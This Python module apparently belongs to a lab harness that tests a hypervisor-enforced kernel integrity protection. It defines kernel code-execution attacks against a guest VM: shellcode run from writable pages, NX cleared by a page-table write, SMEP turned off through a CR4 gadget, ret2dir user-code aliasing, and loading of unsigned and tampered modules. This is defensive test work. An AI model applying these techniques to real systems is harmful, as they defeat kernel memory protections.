"""Foreign code at CPL0: from writable pages, from user pages, from modules that nobody signed."""

from __future__ import annotations

import struct

from vtlab.client.driver import Driver
from vtlab.client.machine import Machine
from vtlab.client.symbols import Symbols
from vtlab.x86.registers import Cr4
from vtlab_attacks.evidence import Attack, Attempts, Evidence, Run, observe
from vtlab_attacks.state import (
    ACCESSED,
    DIRTY,
    DRIVER_WINDOW,
    GLOBAL,
    PAGE,
    PRESENT,
    WRITABLE,
    direct,
    entry_gpa,
    memory,
    register,
    show_bytes,
)

MARK = b"executed"
KERNEL_CODE = 0x08  # CS at CPL0; CPL3 would store 0x2b
RET2DIR = "Kemerlis, Polychronakis, Keromytis 2014, ret2dir"

# movabs $MARK, %rax; mov %rax, (%rdi); ret
SHELLCODE = b"\x48\xb8" + MARK + b"\x48\x89\x07\xc3"


def _mark(machine: Machine, symbols: Symbols) -> bytes | None:
    mark: bytes | None = memory(machine, symbols.physical("driver_mailbox"))
    return mark


def _executed(_before: object, after: object) -> bool:
    return after == MARK


def run_writable_page(machine: Machine, driver: Driver, symbols: Symbols) -> Evidence:
    """The driver's own page is writable and executable in the guest's tables."""
    driver.write_bytes(DRIVER_WINDOW, SHELLCODE)

    def steps(attempts: Attempts) -> None:
        attempts.step(driver.call, DRIVER_WINDOW, symbols["driver_mailbox"])

    return observe(
        "memory that the code writes", lambda: _mark(machine, symbols), steps, symbols, _executed, show_bytes
    )


def run_data(machine: Machine, driver: Driver, symbols: Symbols) -> Evidence:
    """A data page loses NX by a store to its page-table entry."""
    code = symbols["driver_mailbox"] + PAGE
    driver.write_bytes(code, SHELLCODE)
    entry = entry_gpa(machine, code)
    value = symbols.physical("driver_mailbox") + PAGE | PRESENT | WRITABLE | ACCESSED | DIRTY | GLOBAL

    def steps(attempts: Attempts) -> None:
        attempts.step(driver.write, direct(entry), value)
        attempts.step(driver.call, symbols["invlpg"], code)
        attempts.step(driver.call, code, symbols["driver_mailbox"])

    return observe(
        "memory that the code writes", lambda: _mark(machine, symbols), steps, symbols, _executed, show_bytes
    )


def _user_code(address: int, without_smep: bool, machine: Machine, driver: Driver, symbols: Symbols) -> Evidence:
    def steps(attempts: Attempts) -> None:
        if without_smep:
            attempts.step(driver.call, symbols["gadget_mov_cr4"], register(machine, "cr4") & ~Cr4.SMEP)
        attempts.step(driver.call, address, symbols["driver_mailbox"])

    return observe(
        "CS that the user program's code stored",
        lambda: int.from_bytes(_mark(machine, symbols) or b"", "little"),
        steps,
        symbols,
        lambda _, after: after == KERNEL_CODE,
        hex,
    )


def run_user_code(machine: Machine, driver: Driver, symbols: Symbols) -> Evidence:
    return _user_code(symbols["user_payload"], True, machine, driver, symbols)


def run_user_alias(machine: Machine, driver: Driver, symbols: Symbols) -> Evidence:
    """By the driver's supervisor mapping of the user program's text, SMEP does not apply."""
    address = DRIVER_WINDOW + PAGE + symbols["user_payload"] - symbols["user_text_start"]
    return _user_code(address, False, machine, driver, symbols)


def load_module(name: str) -> Run:
    """By the kernel's module loader."""

    def run(machine: Machine, driver: Driver, symbols: Symbols) -> Evidence:
        area = symbols["module_area"]

        def state() -> tuple[bool, bytes]:
            walk = machine.translate(area)
            return walk.present and walk.executable, struct.pack("<I", walk.present and driver.read(area, 4))

        def steps(attempts: Attempts) -> None:
            attempts.step(driver.module, name)

        return observe(
            "module area",
            state,
            steps,
            symbols,
            lambda _, after: after[0],
            lambda seen: f"executable, code {seen[1].hex(' ')}" if seen[0] else "not executable",
        )

    return run


ATTACKS = [
    Attack(
        "exec-wx-page", "Runs code from a page that the driver left writable and executable", RET2DIR, run_writable_page
    ),
    Attack(
        "exec-data",
        "Runs code from a data page after clearing NX in its entry",
        "Heki v2, memory permissions (Salaün, Venkataraman 2023)",
        run_data,
    ),
    Attack(
        "exec-user",
        "Clears SMEP and runs user code at CPL0",
        "Kemerlis, Portokalidis, Keromytis 2012, ret2usr",
        run_user_code,
    ),
    Attack("exec-user-alias", "Runs user code at CPL0 through a kernel mapping of it", RET2DIR, run_user_alias),
    Attack("module-unsigned", "Loads a module without a signature", "LVBS VALIDATE_MODULE", load_module("unsigned")),
    Attack(
        "module-tampered",
        "Loads a signed module with one changed byte",
        "LVBS VALIDATE_MODULE",
        load_module("tampered"),
    ),
]
